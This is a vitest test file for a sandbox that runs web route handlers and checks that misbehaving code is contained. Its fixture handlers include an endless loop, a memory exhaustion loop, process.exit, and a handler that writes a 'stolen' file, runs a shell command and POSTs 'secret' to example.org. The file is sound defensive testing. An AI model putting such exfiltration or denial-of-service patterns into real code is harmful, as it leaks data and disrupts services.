import { expect, test } from 'vitest'
import { observeBoth } from '../support/observe.ts'

/** What a handler does to its process is an answer like any other, and costs only its own request. */

const LONG = 60_000
const fine = "export const GET = () => new Response('fine')"

test(
  'an endless loop',
  async () => {
    const exchanges = await observeBoth({
      target: 16,
      pages: "export default (req, res) => { while (req.query.a) {} res.end('fine') }",
      app: fine,
      requests: [{}, { path: '/api/test?a=1' }, {}],
      limits: { requestMs: 1500, memoryMb: 256 },
    })
    expect(exchanges.map(({ before }) => before.answer)).toMatchObject([
      { kind: 'response', status: 200 },
      { kind: 'crash', why: 'endless' },
      { kind: 'response', status: 200 },
    ])
    expect(exchanges.map(({ after }) => after.answer.kind)).toEqual(['response', 'response', 'response'])
  },
  LONG,
)

test(
  'process.exit',
  async () => {
    const [seen] = await observeBoth({
      target: 16,
      pages: "export default (req, res) => { console.log('before'); process.exit(1); console.log('never') }",
      app: fine,
      requests: [{}],
    })
    expect(seen?.before).toMatchObject({ answer: { kind: 'crash', why: 'process.exit' }, log: ['log: before'] })
    expect(seen?.after.answer.kind).toBe('response')
  },
  LONG,
)

test(
  'all of the memory',
  async () => {
    const exchanges = await observeBoth({
      target: 16,
      pages: fine.replace('GET', 'GET0'),
      app: `export const GET = () => { const all = []; while (true) all.push({ text: 'x'.repeat(10) + all.length }) }
          export const POST = () => new Response('fine')`,
      requests: [{}, { method: 'POST' }],
      limits: { requestMs: 20_000, memoryMb: 64 },
    })
    expect(exchanges.map(({ after }) => after.answer)).toMatchObject([
      { kind: 'crash', why: 'out of memory' },
      { kind: 'response', status: 200 },
    ])
  },
  LONG,
)

test(
  'errors that are thrown outside of the handler, and rejections',
  async () => {
    const [seen] = await observeBoth({
      target: 16,
      pages: `export default (req, res) => {
      setTimeout(() => { throw new Error('late') }, 10)
      Promise.reject(new TypeError('lost'))
      res.end()
    }`,
      requests: [{}],
    })
    expect(seen?.before.answer.kind).toBe('response')
    expect([...(seen?.before.rejections ?? [])].sort()).toEqual(['uncaught Error: late', 'unhandled TypeError: lost'])
  },
  LONG,
)

test(
  'files, processes and the network are out of reach',
  async () => {
    const [seen] = await observeBoth({
      target: 16,
      pages: `import { writeFileSync } from 'fs'
      import { execSync } from 'node:child_process'
      import { connect } from 'net'
      export default async (req, res) => {
        writeFileSync('stolen.txt', 'x')
        execSync('touch stolen')
        connect(80, 'example.org')
        const answer = await fetch('https://example.org/', { method: 'POST', body: 'secret' })
        res.status(answer.status).end()
      }`,
      requests: [{}],
    })
    expect(seen?.before.answer).toMatchObject({ kind: 'response', status: 200 })
    expect(seen?.before.calls.map(({ name, args }) => `${name}(${args})`)).toEqual([
      'fs.writeFileSync("stolen.txt", "x")',
      'child_process.execSync("touch stolen")',
      'net.connect(80, "example.org")',
      'fetch("https://example.org/", {"body": "secret", "method": "POST"})',
    ])
  },
  LONG,
)

test(
  'chance, time and what is kept on the global object are the same in each request',
  async () => {
    const handler = `[Math.random(), Date.now(), new Date().toISOString(), crypto.randomUUID(), randomBytes(4).toString('hex'),
    performance.now(), (globalThis.count = (globalThis.count ?? 0) + 1), process.env.DATABASE_URL, process.cwd()]`
    const seen = await observeBoth({
      target: 16,
      pages: `import { randomBytes } from 'crypto'
      export default (req, res) => res.json(${handler})`,
      app: `import { randomBytes } from 'node:crypto'
      export const GET = () => Response.json(${handler})`,
      requests: [{}, {}],
    })
    const bodies = seen.flatMap(({ before, after }) =>
      [before, after].map(({ answer }) => (answer.kind === 'response' ? answer.body : answer.kind)),
    )
    expect(new Set(bodies).size).toBe(1)
    expect(JSON.parse(Buffer.from(bodies[0] ?? '', 'base64').toString())).toMatchObject([
      expect.any(Number),
      Date.UTC(2026, 0, 15, 12),
      '2026-01-15T12:00:00.000Z',
      expect.stringMatching(/^[\da-f-]{36}$/),
      expect.stringMatching(/^[\da-f]{8}$/),
      0,
      1,
      'https://database-url.test',
      '/project',
    ])
  },
  LONG,
)
